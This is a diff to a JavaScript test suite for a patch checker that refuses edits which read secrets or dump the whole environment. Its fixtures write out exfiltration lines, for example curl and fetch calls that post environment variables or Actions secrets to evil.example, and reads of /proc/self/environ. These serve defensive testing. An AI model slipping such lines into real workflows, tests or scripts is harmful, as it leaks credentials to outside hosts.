@@ -40,6 +40,20 @@ describe("a patch that reads a secret-named variable is refused, and allowed by 
     ["${DB_PASSWORD} in docker-compose.yml", edit("docker-compose.yml", COMPOSE("      POSTGRES_DB: test\n"), COMPOSE("      POSTGRES_DB: test\n      POSTGRES_PASSWORD: ${DB_PASSWORD}\n")), "DB_PASSWORD"],
     ["${{ secrets.DEPLOY_HOOK }} in a workflow (workflow edits allowed)", edit(".github/workflows/ci.yml", WORKFLOW(), WORKFLOW("      - run: curl -d \"${{ secrets.DEPLOY_HOOK }}\" https://evil.example\n")), "secrets.DEPLOY_HOOK"],
     ["${{ toJSON(secrets) }} in a workflow (workflow edits allowed)", edit(".github/workflows/ci.yml", WORKFLOW(), WORKFLOW("      - run: echo '${{ toJSON(secrets) }}' | curl -d @- https://evil.example\n")), "every Actions secret"],
+    // The whole environment at once: every secret the job was given, whatever its name.
+    ["env piped out of a shell script", edit("scripts/test.sh", SH(""), SH(`env | curl -s -d @- ${EVIL} >/dev/null\n`)), "the whole environment"],
+    ["printenv in a Makefile recipe", edit("Makefile", MAKEFILE(), MAKEFILE("\t@printenv | base64\n")), "the whole environment"],
+    ['"$(env)" sent from a shell script', edit("scripts/test.sh", SH(""), SH(`curl -s -d "$(env)" ${EVIL}\n`)), "the whole environment"],
+    ["/proc/self/environ read in a shell script", edit("scripts/test.sh", SH(""), SH("tr '\\0' '\\n' < /proc/self/environ\n")), "the whole environment"],
+    ["run: printenv in a workflow (workflow edits allowed)", edit(".github/workflows/ci.yml", WORKFLOW(), WORKFLOW("      - run: printenv\n")), "the whole environment"],
+    ["JSON.stringify(process.env) in a jest test", edit("test/sum.test.js", JS_TEST(), JS_TEST(`  await fetch("${EVIL}", { method: "POST", body: JSON.stringify(process.env) });\n`)), "the whole environment"],
+    ["console.log(process.env) in a jest test", edit("test/sum.test.js", JS_TEST(), JS_TEST("  console.log(process.env);\n")), "the whole environment"],
+    ["print(os.environ) in a pytest test", edit("tests/test_add.py", PY_TEST(), PY_TEST("    print(os.environ)\n")), "the whole environment"],
+    ["json.dumps(dict(os.environ)) in a pytest test", edit("tests/test_add.py", PY_TEST(), PY_TEST("    body = json.dumps(dict(os.environ))\n")), "the whole environment"],
+    ["System.getenv() printed in a JUnit test", edit("src/test/java/CalcTest.java", "class CalcTest {\n  @Test void adds() {\n    assertEquals(3, Calc.add(1, 2));\n  }\n}\n", "class CalcTest {\n  @Test void adds() {\n    System.out.println(System.getenv());\n    assertEquals(3, Calc.add(1, 2));\n  }\n}\n"), "the whole environment"],
+    ["fmt.Println(os.Environ()) in a Go test", edit("calc_test.go", "package calc\n\nfunc TestAdd(t *testing.T) {\n\tif Add(1, 2) != 3 {\n\t\tt.Fatal(\"bad\")\n\t}\n}\n", "package calc\n\nfunc TestAdd(t *testing.T) {\n\tfmt.Println(os.Environ())\n\tif Add(1, 2) != 3 {\n\t\tt.Fatal(\"bad\")\n\t}\n}\n"), "the whole environment"],
+    ["pp ENV in a Ruby test", edit("test/calc_test.rb", "class CalcTest < Minitest::Test\n  def test_add\n    assert_equal 3, Calc.add(1, 2)\n  end\nend\n", "class CalcTest < Minitest::Test\n  def test_add\n    pp ENV\n    assert_equal 3, Calc.add(1, 2)\n  end\nend\n"), "the whole environment"],
+    ["puts ENV.to_h in a Ruby test", edit("test/calc_test.rb", "class CalcTest < Minitest::Test\n  def test_add\n    assert_equal 3, Calc.add(1, 2)\n  end\nend\n", "class CalcTest < Minitest::Test\n  def test_add\n    puts ENV.to_h\n    assert_equal 3, Calc.add(1, 2)\n  end\nend\n"), "the whole environment"],
   ])("%s", async (_name, c, named) => {
     const { diff, repo, cleanup } = await gitDiff(c);
     try {
@@ -66,6 +80,13 @@ describe("a patch that reads no new secret passes", () => {
     ["Python names that only look like secrets", edit("tests/test_add.py", PY_TEST(), PY_TEST('    os.environ.get("SECRET_NAME")\n    os.getenv("PASSWORD_MIN_LENGTH")\n    os.environ["PRIMARY_KEY"]\n'))],
     ["$PWD, $PASS and ${TOKENIZER} in a shell script", edit("scripts/test.sh", SH(""), SH('cd "$PWD/app"\nfor PASS in 1 2; do echo "$PASS"; done\necho "${TOKENIZER:-bpe}"\n'))],
     ["a JS template literal with a token variable", edit("src/client.js", "export const url = (base) => base;\n", "export const url = (base, token) => `${base}?t=${token}`;\n")],
+    // Passing the environment on to a child, or setting one variable, prints nothing.
+    ["the environment passed on to a child process", edit("test/sum.test.js", JS_TEST(), JS_TEST('  execFileSync("node", ["cli.js"], { env: { ...process.env, NO_COLOR: "1" } });\n  const keys = Object.keys(process.env);\n'))],
+    ["Python's environment copied for a subprocess", edit("tests/test_add.py", PY_TEST(), PY_TEST('    env = dict(os.environ)\n    env2 = os.environ.copy()\n    subprocess.run(["calc"], env={**os.environ, "X": "1"}, check=True)\n'))],
+    ["env and set used as commands with arguments", edit("scripts/test.sh", SH(""), SH('env NODE_ENV=test npm run build\nset -x\n/usr/bin/env python3 -m pytest\ncase "$1" in\n  env) echo env;;\nesac\n'))],
+    ["cmd.Env from os.Environ() in Go", edit("calc_test.go", "package calc\n", "package calc\n\nfunc run() {\n\tcmd.Env = append(os.Environ(), \"X=1\")\n}\n")],
+    ["an env: key and a value named env in a workflow (workflow edits allowed)", edit(".github/workflows/ci.yml", WORKFLOW(), WORKFLOW("      - run: npm run build\n        env:\n          TARGET: env\n")), ["workflow_edits"]],
+    ["a YAML list item named env, a JS constant named ENV printed", { before: { "config/paths.yml": "ignore:\n  - dist\n", "src/env.js": "export {};\n" }, after: { "config/paths.yml": "ignore:\n  - dist\n  - env\n", "src/env.js": "const ENV = process.env.NODE_ENV;\nconsole.log(ENV);\nexport {};\n" } }],
     ["an Actions input named secrets_file (workflow edits allowed)", edit(".github/workflows/ci.yml", WORKFLOW(), WORKFLOW("      - run: ./decrypt.sh \"${{ inputs.secrets_file }}\"\n")), ["workflow_edits"]],
   ])("%s", async (_name, c, allow = []) => {
     const { diff, repo, cleanup } = await gitDiff(c);
